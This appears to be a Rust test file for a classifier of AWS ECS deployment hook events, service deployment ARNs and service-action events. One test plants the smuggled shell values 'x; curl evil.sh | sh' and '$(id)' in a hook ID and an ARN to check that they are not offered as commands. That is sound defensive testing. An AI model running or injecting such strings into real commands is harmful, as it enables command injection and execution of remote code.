//! Classification of hook events, of service deployment ARNs in any event, and of the
//! service action that restates a failure.

use super::tests::{FAILED, classify_str, failure_of, fixture};
use super::*;
use crate::remembered::HookNews;

fn hook_of(body: &str) -> Hook<'static> {
    match classify_str(body).unwrap() {
        Fact::Hook(hook) => hook,
        other => panic!("{other:?}"),
    }
}

const ARN: &str = "arn:aws:ecs:us-west-2:123456789012:service-deployment/my-cluster/my-service/0EYSiB0qap8xf0N76FsbE";

#[test]
fn the_documented_pauses() {
    let pause = hook_of(&fixture("ecs-hook-awaiting-action.json"));
    assert_eq!(pause.news, HookNews::Waiting);
    assert!(pause.is_pause());
    assert_eq!(pause.stage.as_deref(), Some("POST_TEST_TRAFFIC_SHIFT"));
    assert_eq!(pause.expires_at, time::rfc3339("2026-03-05T16:04:41Z"));
    assert_eq!(pause.at(), time::rfc3339("2026-03-05T15:54:41Z"));
    assert_eq!(pause.arn(), Some(ARN));
    assert_eq!(
        pause.plain_hook_id(),
        Some("ecs-pause-e7tK9G_WRJqNF_EOMjztDXfKenlJuEUVjsNStf4WLKw")
    );
    assert_eq!(pause.service.cluster.as_deref(), Some("my-cluster"));
    assert_eq!(pause.service.name, "my-service");
    assert_eq!(pause.service.account.as_str(), "123456789012");
    // The pause hooks page's sample has no resources: the detail names both.
    let bare = hook_of(&fixture("ecs-hook-awaiting-action-no-resources.json"));
    assert_eq!(bare.service.name, "my-service");
    assert!(
        bare.arn()
            .is_some_and(|arn| arn.ends_with("/EZe5RNVLH6PPzHXINuP28"))
    );
    assert_eq!(bare.expires_at, time::rfc3339("2024-01-15T12:00:00Z"));
}

#[test]
fn each_hook_state_is_its_news() {
    let sample = fixture("ecs-hook-awaiting-action.json");
    let cases = [
        ("HOOK_AWAITING_ACTION", "PAUSE", HookNews::Waiting),
        ("HOOK_SUCCEEDED", "PAUSE", HookNews::Continued),
        ("HOOK_FAILED", "PAUSE", HookNews::RollbackChosen),
        ("HOOK_TIMED_OUT", "PAUSE", HookNews::TimedOut),
        ("HOOK_IN_PROGRESS", "PAUSE", HookNews::Running),
        ("HOOK_SUCCEEDED", "AWS_LAMBDA", HookNews::Passed),
        ("HOOK_FAILED", "AWS_LAMBDA", HookNews::Failed),
        ("HOOK_TIMED_OUT", "AWS_LAMBDA", HookNews::TimedOut),
        ("HOOK_IN_PROGRESS", "AWS_LAMBDA", HookNews::Running),
    ];
    for (name, kind, news) in cases {
        let body = sample
            .replace("HOOK_AWAITING_ACTION", name)
            .replace("\"PAUSE\"", &format!("\"{kind}\""));
        let hook = hook_of(&body);
        assert_eq!(
            (hook.news, hook.is_pause()),
            (news, kind == "PAUSE"),
            "{name} {kind}"
        );
        let fact = Fact::Hook(hook);
        assert_eq!(fact.event_name(), Some(name));
    }
    let unknown = sample.replace("HOOK_AWAITING_ACTION", "HOOK_SOMETHING_NEW");
    assert!(matches!(
        classify_str(&unknown),
        Ok(Fact::Ignored { event_name: Some(name), .. }) if name == "HOOK_SOMETHING_NEW"
    ));
    let nameless = sample.replace("\"eventName\": \"HOOK_AWAITING_ACTION\",", "");
    assert_eq!(
        classify_str(&nameless),
        Err(Error::MissingField("detail.eventName".into()))
    );
}

#[test]
fn a_hook_id_or_arn_unsafe_in_a_shell_is_not_offered_as_a_command() {
    let sample = fixture("ecs-hook-awaiting-action.json");
    let hostile = sample.replace(
        "ecs-pause-e7tK9G_WRJqNF_EOMjztDXfKenlJuEUVjsNStf4WLKw",
        "x; curl evil.sh | sh",
    );
    let hook = hook_of(&hostile);
    assert_eq!(hook.plain_hook_id(), None);
    assert_eq!(hook.hook_id.as_deref(), Some("x; curl evil.sh | sh"));
    let odd_arn = sample.replace("0EYSiB0qap8xf0N76FsbE", "$(id)");
    assert_eq!(hook_of(&odd_arn).arn(), None);
    // An `expiresAt` that does not read is none.
    let unread = sample.replace("2026-03-05T16:04:41Z", "tomorrow");
    assert_eq!(hook_of(&unread).expires_at, None);
}

#[test]
fn service_deployment_arns_name_the_service_in_any_event() {
    let service = "arn:aws:ecs:us-west-2:111122223333:service/default/servicetest";
    let deployment =
        "arn:aws:ecs:us-west-2:111122223333:service-deployment/default/servicetest/Ab1";
    // Only the deployment's ARN: its service.
    let failure = failure_of(&FAILED.replace(service, deployment));
    assert_eq!(failure.service.cluster.as_deref(), Some("default"));
    assert_eq!(failure.service.name, "servicetest");
    // Both: the service's own ARN wins, in any order.
    let both = FAILED.replace(
        &format!("\"{service}\""),
        &format!("\"{deployment}\", \"{service}\""),
    );
    assert_eq!(failure_of(&both).service.name, "servicetest");
    // The detail's serviceArn comes before a deployment ARN, and is checked.
    let named = FAILED.replace(service, deployment).replace(
        "\"eventType\"",
        "\"serviceArn\": \"arn:aws:ecs:us-west-2:111122223333:service/blue/web\", \"eventType\"",
    );
    let failure = failure_of(&named);
    assert_eq!(
        (failure.service.cluster.as_deref(), &*failure.service.name),
        (Some("blue"), "web")
    );
    let bad = FAILED
        .replace(service, deployment)
        .replace("\"eventType\"", "\"serviceArn\": \"nope\", \"eventType\"");
    assert!(matches!(
        classify_str(&bad),
        Err(Error::InvalidField { path, .. }) if path == "detail.serviceArn"
    ));
}

#[test]
fn the_service_action_that_restates_a_failure_is_covered() {
    let fact = classify_str(&fixture("ecs-service-action-deployment-failed.json")).unwrap();
    assert!(matches!(
        fact,
        Fact::Covered { ref event_name, .. } if event_name == "SERVICE_DEPLOYMENT_FAILED"
    ));
    assert_eq!(fact.event_name(), Some("SERVICE_DEPLOYMENT_FAILED"));
    for name in [
        "ecs-service-action-health-unknown.json",
        "ecs-service-action-lattice-unhealthy.json",
    ] {
        assert!(
            matches!(classify_str(&fixture(name)), Ok(Fact::ServiceAction(_))),
            "{name}"
        );
    }
}
